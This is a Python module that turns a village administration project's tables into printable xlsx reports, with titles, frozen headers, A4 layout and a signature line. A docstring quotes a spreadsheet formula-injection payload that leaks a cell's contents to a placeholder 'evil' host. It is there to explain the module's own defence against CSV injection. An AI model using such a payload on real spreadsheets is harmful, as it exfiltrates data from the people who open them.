"""The paper a village secretary hands upward, as an xlsx that prints as one: a title row, the
context lines, bold frozen headers repeated on every printed page, A4 fitted to the page width,
and the signature line (制表人 / 审核人 / 日期) that the town expects under every table.

Every report of the project is drawn here, so they all look and print alike."""

import io
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Border, Font, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

SIGNED_BY = "制表人："
SIGNATURE = f"{SIGNED_BY}__________        审核人：__________        日期：______年____月____日"
_THIN = Side(style="thin", color="808080")
_BOX = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)


@dataclass(frozen=True, slots=True)
class Column:
    header: str
    width: int = 12
    text: bool = False  # phone numbers and 户号: shown as typed, never as 1.38E+10


@dataclass(slots=True)
class Sheet:
    name: str  # the tab
    title: str  # the title row, e.g. "东沟村 2026年11月 积分台账"
    columns: Sequence[Column]
    rows: list[list[Any]] = field(default_factory=list)
    lines: list[str] = field(default_factory=list)  # context under the title: unit, period, totals
    landscape: bool = False
    signed: bool = True  # a template to fill in has no signature line


@dataclass(frozen=True, slots=True)
class Paper:
    """A finished download: its Chinese file name (without .xlsx), an ASCII fallback, the bytes,
    and how many rows of data it carries (what the audit log records)."""

    name: str
    ascii_name: str
    data: bytes
    rows: int


def _safe(value: Any) -> Any:
    """Stored text as a cell can hold it: characters XML cannot carry (a bell, NUL, escapes)
    left out, so no name typed years ago can make a paper fail."""
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def _append(sheet: Worksheet, values: Sequence[Any]) -> None:
    """A row whose text is always text. openpyxl writes a string that starts with "=" as a live
    formula; a villager's note reading =HYPERLINK("http://evil/?x="&A1) must reach the town as
    the words it is (OWASP, CSV injection: = + - @ tab CR). A string cell is never evaluated,
    and the value stays what was typed, so an exported roster imports back unchanged."""
    sheet.append([_safe(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def _draw(sheet: Worksheet, spec: Sheet) -> None:
    width = max(len(spec.columns), 1)
    last = get_column_letter(width)
    sheet.title = _tab_name(spec.name)
    _append(sheet, [spec.title])
    sheet.merge_cells(f"A1:{last}1")
    sheet["A1"].font = Font(bold=True, size=16)
    sheet["A1"].alignment = Alignment(horizontal="center", vertical="center")
    sheet.row_dimensions[1].height = 30
    for line in spec.lines:
        _append(sheet, [line])
        sheet.merge_cells(
            start_row=sheet.max_row, start_column=1, end_row=sheet.max_row, end_column=width
        )
    header_row = sheet.max_row + 1
    _append(sheet, [c.header for c in spec.columns])
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
        cell.border = _BOX
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    for row in spec.rows:
        _append(sheet, row)
        for cell, column in zip(sheet[sheet.max_row], spec.columns, strict=False):
            cell.border = _BOX
            if column.text:
                cell.number_format = "@"
    for index, column in enumerate(spec.columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column.width
    if spec.signed:
        sheet.append([])
        _append(sheet, [SIGNATURE])
        sheet.merge_cells(
            start_row=sheet.max_row, start_column=1, end_row=sheet.max_row, end_column=width
        )
    sheet.freeze_panes = f"A{header_row + 1}"
    sheet.print_title_rows = f"{header_row}:{header_row}"
    sheet.print_area = f"A1:{last}{sheet.max_row}"
    setup = sheet.page_setup
    setup.paperSize = sheet.PAPERSIZE_A4
    setup.orientation = (
        sheet.ORIENTATION_LANDSCAPE if spec.landscape else sheet.ORIENTATION_PORTRAIT
    )
    setup.fitToWidth, setup.fitToHeight = 1, 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.print_options.horizontalCentered = True
    sheet.oddFooter.center.text = "第 &P 页，共 &N 页"


_TAB_UNSAFE = str.maketrans({c: "_" for c in "\\/:*?[]"})


def _tab_name(name: str) -> str:
    """Excel's rules for a tab: 31 characters, none of \\ / : * ? [ ], no control characters."""
    return _safe(name).translate(_TAB_UNSAFE)[:31] or "Sheet"


def workbook(sheets: Sequence[Sheet]) -> bytes:
    book = Workbook()
    first = book.active
    assert first is not None
    for index, spec in enumerate(sheets):
        _draw(first if index == 0 else book.create_sheet(), spec)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def paper(name: str, ascii_name: str, sheets: Sequence[Sheet]) -> Paper:
    return Paper(
        name=name,
        ascii_name=ascii_name,
        data=workbook(sheets),
        rows=sum(len(s.rows) for s in sheets),
    )


_UNSAFE = str.maketrans({c: "_" for c in '\\/:*?"<>|'})
_QUARTERS = {"1": "一", "2": "二", "3": "三", "4": "四"}


def file_name(text: str) -> str:
    """A title as a file name every system accepts (no slashes, colons or quotes)."""
    return text.translate(_UNSAFE).strip()[:80]


def period_words(period: str) -> str:
    """2026-11 → 2026年11月, 2026-Q3 → 2026年第三季度, 2026 → 2026年."""
    year, _, rest = period.partition("-")
    if not rest:
        return f"{year}年"
    if rest.startswith("Q"):
        return f"{year}年第{_QUARTERS.get(rest[1:], rest[1:])}季度"
    return f"{year}年{int(rest)}月"
